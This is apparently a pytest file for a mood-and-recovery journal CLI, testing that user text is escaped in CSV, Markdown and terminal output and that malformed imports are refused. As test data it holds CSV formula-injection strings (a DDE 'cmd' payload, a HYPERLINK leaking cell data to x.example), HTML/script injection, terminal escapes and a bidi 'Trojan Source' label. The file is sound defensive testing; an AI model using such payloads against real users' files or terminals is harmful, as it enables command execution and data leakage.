"""Issue 12 items 10–16 as a user meets them: user text that travels into a spreadsheet, a
Markdown viewer or a terminal is shown, never run; odd input and a full disk get one plain
`error:` line."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from recovery_journal import model
from support import Cli

EPOCH = {"SOURCE_DATE_EPOCH": "1790000000"}


def one_error_line(result, code: int = 2) -> str:  # type: ignore[no-untyped-def]
    assert result.code == code, (result.code, result.err)
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.err
    assert "unexpected" not in lines[0] and "Traceback" not in result.err
    return lines[0]


def _export_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "odd.json"
    path.write_text(text)
    return path


# ---------------------------------------------------------------- item 11: CSV


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx"]


def test_csv_cells_that_start_like_a_formula_are_shown_as_text(cli: Cli, tmp_path: Path) -> None:
    for index, text in enumerate(FORMULAS, start=1):
        assert cli("log", "--date", f"2026-11-0{index}", "--mood", "5", f"--note={text}").code == 0
    assert (
        cli("habits", "add", "water", "--label", "=cmd|' /C calc'!A0", "--kind", "count").code == 0
    )
    assert cli("log", "--date", "2026-11-01", "--habit", "water=3").code == 0
    added = cli(
        "session", "add", "--at", "2026-11-02 10:00", "--kind", "other",
        "--provider", "@clinic", "--intention", "=1+1", "--insights", "-", stdin="+rest",
    )  # fmt: skip
    assert added.code == 0, added.err
    target = tmp_path / "out.zip"
    assert cli("export", "--format", "csv", "-o", str(target), **EPOCH).code == 0
    with zipfile.ZipFile(target) as archive:
        days = list(csv.DictReader(io.StringIO(archive.read("days.csv").decode())))
        sessions = list(csv.DictReader(io.StringIO(archive.read("sessions.csv").decode())))
    assert [row["note"] for row in days] == ["'" + text for text in FORMULAS]
    assert days[0]["mood"] == "5" and days[0]["water"] == "3"  # numbers stay numbers
    assert sessions[0]["provider"] == "'@clinic"
    assert (sessions[0]["intention"], sessions[0]["insights"]) == ("'=1+1", "'+rest")
    # the daily table on stdout follows the same rule; JSON keeps every character
    assert "'=HYPERLINK" in cli("export", "--format", "csv", **EPOCH).out
    exported = json.loads(cli("export", "--format", "json", **EPOCH).out)
    assert [day["note"] for day in exported["days"]] == FORMULAS


# ---------------------------------------------------------------- item 12: Markdown


HOSTILE = (
    '<img src="http://x.example/p.png"> <script>alert(1)</script> '
    '<meta http-equiv="refresh" content="0;url=http://x.example/"> '
    "![x](http://x.example/t.png) Felt *lighter* & calm"
)


def test_markdown_shows_raw_html_and_image_links_from_user_text_as_text(cli: Cli) -> None:
    assert cli("log", "--date", "2026-11-01", "--mood", "5", "--note", HOSTILE).code == 0
    assert cli("habits", "add", "water", "--label", "<b>Water</b>", "--kind", "done").code == 0
    assert cli("log", "--date", "2026-11-01", "--habit", "water=yes").code == 0
    added = cli(
        "session", "add", "--at", "2026-11-02 10:00", "--kind", "other",
        "--provider", "<iframe src=http://x.example>", "--intention", HOSTILE,
        "--insights", "![y](http://x.example/i.png)",
    )  # fmt: skip
    assert added.code == 0, added.err
    report = cli("export", "--format", "md", **EPOCH)
    assert report.code == 0, report.err
    text = report.out
    outside_code = "".join(text.split("```")[::2])  # a code block shows its text as text
    for raw in ("<img", "<script", "<meta", "<iframe", "<b>"):
        assert raw not in outside_code, raw
    assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\(", outside_code)  # no image, no link
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "!\\[x\\](http://x.example/t.png)" in text
    assert "Felt *lighter* &amp; calm" in text  # the note's own Markdown still renders
    assert "&lt;b&gt;Water&lt;/b&gt;" in text


# ---------------------------------------------------------------- item 13: terminal


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9bcalm\x7f"


def test_terminal_output_shows_control_characters_instead_of_obeying_them(cli: Cli) -> None:
    assert cli("log", "--date", "2026-11-01", "--mood", "5", "--note", ESCAPES).code == 0
    assert cli("habits", "add", "water", "--label", "Wa\x1b[8mter", "--kind", "done").code == 0
    assert cli("log", "--date", "2026-11-01", "--habit", "water=yes").code == 0
    for args in (("show",), ("habits", "list"), ("insights",)):
        result = cli(*args)
        assert result.code == 0, result.err
        for control in ("\x1b", "\x07", "\x9b", "\x7f"):
            assert control not in result.out, (args, control)
    assert "␛]0;owned␇␛[2J\\x9bcalm␡" in cli("show").out
    assert "Wa␛[8mter" in cli("habits", "list").out
    error = cli("import", "no-such-\x1b[2J.json")  # an error naming a file
    assert "\x1b" not in error.err and "no-such-␛[2J.json" in one_error_line(error)
    # JSON keeps the exact text
    [day] = cli("show", "--format", "json").json()
    assert day["note"] == ESCAPES
    labels = [h["label"] for h in cli("habits", "list", "--format", "json").json()]
    assert "Wa\x1b[8mter" in labels


def test_the_habits_chart_and_every_listing_show_escapes_and_bidi_overrides(cli: Cli) -> None:
    # a right-to-left override makes a label read backwards on the terminal ("Trojan Source")
    label = "Wa\x1b[2Jter \u202eklaw\u202c"
    assert cli("habits", "add", "water", "--label", label, "--kind", "done").code == 0
    assert cli("log", "--date", "2026-11-01", "--habit", "water=yes", "--note", label).code == 0
    for args in (("chart", "habits"), ("habits", "list"), ("show",), ("insights",)):
        result = cli(*args)
        assert result.code == 0, result.err
        for control in ("\x1b", "\u202e", "\u202c"):
            assert control not in result.out, (args, control)
    assert "Wa␛[2J" in cli("chart", "habits").out
    assert "<U+202E>klaw<U+202C>" in cli("habits", "list").out
    labels = [h["label"] for h in cli("habits", "list", "--format", "json").json()]
    assert label in labels  # JSON keeps the exact text


@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
def test_show_as_csv_on_a_terminal_shows_escapes_and_keeps_them_in_a_file(cli: Cli) -> None:
    import os
    import pty

    assert cli("log", "--date", "2026-11-01", "--mood", "5", "--note", ESCAPES).code == 0
    assert ESCAPES in cli("show", "--format", "csv").out  # piped to a file: exact
    main, child = pty.openpty()
    done = subprocess.run(
        [sys.executable, "-m", "recovery_journal", "show", "--format", "csv"],
        stdout=child, stderr=subprocess.PIPE, env=cli.env, timeout=60,
    )  # fmt: skip
    os.close(child)
    seen = b""
    with contextlib.suppress(OSError):
        while chunk := os.read(main, 65536):
            seen += chunk
    os.close(main)
    assert done.returncode == 0, done.stderr
    shown = seen.decode()
    assert "owned␇␛[2J" in shown and "\x1b" not in shown and "\x07" not in shown


def test_the_markdown_report_shows_control_characters(cli: Cli) -> None:
    assert cli("log", "--date", "2026-11-01", "--mood", "5", "--note", ESCAPES).code == 0
    report = cli("export", "--format", "md", **EPOCH).out
    assert "\x1b" not in report and "\x9b" not in report
    assert "owned␇␛" in report


# ---------------------------------------------------------------- item 10: dates and times


@pytest.mark.skipif(
    not Path("/usr/share/zoneinfo/America/New_York").exists(),
    reason="needs the system time-zone database",
)
def test_a_session_time_in_the_spring_forward_gap_is_refused(cli: Cli) -> None:
    env = {"TZ": "America/New_York", "RECOVERY_JOURNAL_NOW": ""}
    line = one_error_line(
        cli("session", "add", "--at", "2026-03-08 02:30", "--kind", "other", **env)
    )
    assert "does not exist" in line and "02:00" in line and "03:00" in line
    assert not cli.db.exists()
    assert cli("session", "add", "--at", "2026-03-08 03:30", "--kind", "other", **env).code == 0
    [session] = cli("session", "list", "--format", "json", **env).json()
    assert session["at"] == "2026-03-08T03:30:00-04:00"
    edit = cli("session", "edit", session["id"], "--at", "2026-03-08 02:15", **env)
    assert "does not exist" in one_error_line(edit)


def test_a_day_outside_life_is_refused_by_import_and_every_export_keeps_working(
    cli: Cli, tmp_path: Path
) -> None:
    assert cli("log", "--date", "2026-11-01", "--mood", "5").code == 0
    assert "1900-01-01" in one_error_line(cli("log", "--date", "1899-12-31", "--mood", "5"))
    bad = {
        "format": "recovery-journal",
        "version": 1,
        "days": [{"date": "0001-01-01", "mood": 5}],
        "sessions": [{"id": "s", "at": "9999-12-31T23:00:00+23:59", "kind": "other"}],
    }
    path = _export_file(tmp_path, json.dumps(bad))
    assert "1900-01-01" in one_error_line(cli("import", str(path)))
    for fmt in ("html", "md", "csv", "json"):
        assert cli("export", "--format", fmt, **EPOCH).code == 0, fmt


# ---------------------------------------------------------------- item 14: odd input


ODD_FILES = {
    "target 1e400": '{"format": "recovery-journal", "version": 1, "habits": [{"key": "w", '
    '"label": "W", "kind": "count", "target": 1e400}]}',
    "target NaN": '{"format": "recovery-journal", "version": 1, "habits": [{"key": "w", '
    '"label": "W", "kind": "count", "target": NaN}]}',
    "instrument []": '{"format": "recovery-journal", "version": 1, "assessments": [{"id": '
    '"a", "instrument": [], "date": "2026-01-01", "answers": [0, 0, 0, 0, 0, 0, 0]}]}',
    "lone surrogate": '{"format": "recovery-journal", "version": 1, "sessions": [{"id": '
    '"\\ud800", "at": "2026-01-01T10:00:00+01:00", "kind": "other"}]}',
    "deep nesting": "[" * 100_000 + "]" * 100_000,
    "5,000 digits": '{"format": "recovery-journal", "version": 1, "days": [{"date": '
    '"2026-01-01", "mood": ' + "9" * 5000 + "}]}",
}


@pytest.mark.parametrize("name", list(ODD_FILES))
def test_odd_import_files_get_a_specific_error_and_change_nothing(
    cli: Cli, tmp_path: Path, name: str
) -> None:
    path = _export_file(tmp_path, ODD_FILES[name])
    line = one_error_line(cli("import", str(path)))
    assert len(line) < 300
    assert not cli.db.exists()


def _limited(cli: Cli, fsize: int, *args: str, stdout: int | None = None):  # type: ignore[no-untyped-def]
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    return subprocess.run(
        [sys.executable, "-m", "recovery_journal", *args],
        env={**cli.env, **EPOCH},
        stdout=stdout if stdout is not None else subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=limit,
        timeout=60,
    )


def test_a_full_disk_during_export_is_one_plain_error_with_exit_1(cli: Cli, tmp_path: Path) -> None:
    for day in range(1, 21):
        note = f"day {day} " + "word " * 4000
        assert cli("log", "--date", f"2026-11-{day:02d}", "--mood", "5", "--note", note).code == 0
    size = 200 * 1024  # room to read the journal, not to write the report
    assert len(cli("export", "--format", "html", **EPOCH).out.encode()) > size
    out = tmp_path / "out"
    out.mkdir()
    target = out / "report.html"
    to_file = _limited(cli, size, "export", "--format", "html", "-o", str(target))
    with (out / "stdout.html").open("w") as handle:
        to_stdout = _limited(cli, size, "export", "--format", "html", stdout=handle.fileno())
    for done in (to_file, to_stdout):
        assert done.returncode == 1, done.stderr
        lines = done.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: ") and "full" in lines[0]
        assert "unexpected" not in lines[0]
    assert sorted(p.name for p in out.iterdir()) == ["stdout.html"]  # no half report, no temp


# ---------------------------------------------------------------- item 15: caps on the CLI


def test_the_cli_refuses_tags_and_habits_beyond_the_caps(cli: Cli) -> None:
    many = [arg for i in range(model.MAX_TAGS_PER_DAY + 1) for arg in ("--tag", f"t{i}")]
    line = one_error_line(cli("log", "--mood", "5", *many))
    assert str(model.MAX_TAGS_PER_DAY) in line
    assert not cli.db.exists()
    assert cli("log", "--mood", "5").code == 0
    for i in range(model.MAX_ACTIVE_HABITS - len(model.BUILT_IN_HABITS)):
        assert cli("habits", "add", f"h{i}", "--label", f"H {i}", "--kind", "done").code == 0
    line = one_error_line(cli("habits", "add", "more", "--label", "More", "--kind", "done"))
    assert f"at most {model.MAX_ACTIVE_HABITS} active" in line


# ---------------------------------------------------------------- item 16: one stdin


@pytest.mark.parametrize("action", ["add", "edit"])
def test_two_options_reading_stdin_are_refused_and_nothing_written(cli: Cli, action: str) -> None:
    if action == "edit":
        assert cli("session", "add", "--at", "2026-11-02 10:00", "--kind", "other").code == 0
        target = [cli("session", "list", "--format", "json").json()[0]["id"]]
    else:
        target = ["--at", "2026-11-02 10:00", "--kind", "other"]
    before = cli("session", "list", "--format", "json").out
    result = cli(
        "session", action, *target, "--intention", "-", "--insights", "-", stdin="all of it"
    )
    line = one_error_line(result)
    assert "--intention" in line and "--insights" in line and "standard input" in line
    assert cli("session", "list", "--format", "json").out == before
    if action == "add":
        assert not cli.db.exists() or cli("session", "list", "--format", "json").json() == []


def test_a_text_from_an_endless_standard_input_is_refused_without_reading_it_all(
    cli: Cli,
) -> None:
    # `log --note - < /dev/zero` (or a pipe that never ends) must not hang or fill the memory:
    # more than a note can hold is refused as soon as it has been read.
    command = [sys.executable, "-m", "recovery_journal", "log", "--note", "-"]
    process = subprocess.Popen(
        command, stdin=subprocess.PIPE, stderr=subprocess.PIPE, env=cli.env, bufsize=0
    )
    assert process.stdin is not None and process.stderr is not None
    with contextlib.suppress(BrokenPipeError):  # the CLI stopped reading: what we want
        process.stdin.write(b"x" * (model.NOTE_MAX_CHARS * 4 + 10))  # and never closed
    try:
        process.wait(timeout=60)  # stdin stays open: the CLI must not wait for its end
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()
        pytest.fail("the CLI waited for the end of an endless standard input")
    finally:
        process.stdin.close()
    err = process.stderr.read()
    process.stderr.close()
    assert process.returncode == 2, err
    line = err.decode().strip()
    assert line.startswith("error: ") and "\n" not in line and "100,000" in line, line
    assert not cli.db.exists()


def test_an_import_names_a_file_with_escapes_in_its_name_visibly(cli: Cli, tmp_path: Path) -> None:
    # The summary printed the file's name as it is: ESC [ 2 J in a name cleared the screen.
    odd = tmp_path / "from\x1b[2Jphone.csv"
    odd.write_text(
        "full_date,date,weekday,time,mood,activities,note_title,note\n"
        "2026-11-20,November 20,Friday,10:00 pm,good,,,ok\n",
        encoding="utf-8",
    )
    result = cli("import", str(odd), "--mood-map", "good=7")
    assert result.code == 0, result.err
    assert "\x1b" not in result.out
    assert "from␛[2Jphone.csv" in result.out
